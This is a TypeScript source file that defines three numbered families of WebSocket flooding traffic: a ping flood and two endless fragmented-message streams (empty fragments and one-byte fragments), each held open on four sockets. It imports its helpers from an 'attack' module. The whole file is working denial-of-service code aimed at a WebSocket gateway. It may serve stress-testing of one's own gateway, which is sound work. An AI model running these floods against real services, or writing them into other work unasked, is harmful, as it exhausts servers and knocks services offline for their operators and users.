import { frame, holdWebSockets, opcodes, writeForever } from '../attack/hold-web-sockets.ts'
import type { Family } from '../family.ts'

const sockets = 4

const times = (count: number, one: Buffer): Buffer => Buffer.concat(Array.from({ length: count }, () => one))

const pingFlood: Family = {
  number: 11,
  name: 'ping flood',
  does: 'four WebSockets that send pings of 125 bytes as fast as they are taken',
  start(context) {
    const pings = times(500, frame(opcodes.ping, Buffer.alloc(125)))
    return holdWebSockets(context, { count: sockets, onOpen: (socket) => writeForever(context, socket, pings) })
  },
}

const emptyFragments: Family = {
  number: 12,
  name: 'empty fragments',
  does: 'four WebSockets, on each a message of empty fragments without end',
  start(context) {
    const fragments = times(5_000, frame(opcodes.continuation, '', false))
    return holdWebSockets(context, {
      count: sockets,
      onOpen(socket) {
        socket.write(frame(opcodes.text, '', false))
        writeForever(context, socket, fragments)
      },
    })
  },
}

const oneByteFragments: Family = {
  number: 13,
  name: 'one-byte fragments',
  does: 'four WebSockets, on each a message of fragments of one byte, as long as the gateway takes it',
  start(context) {
    const fragments = times(5_000, frame(opcodes.continuation, ' ', false))
    return holdWebSockets(context, {
      count: sockets,
      onOpen(socket) {
        socket.write(frame(opcodes.text, ' ', false))
        writeForever(context, socket, fragments)
      },
    })
  },
}

export const frameFamilies: readonly Family[] = [pingFlood, emptyFragments, oneByteFragments]
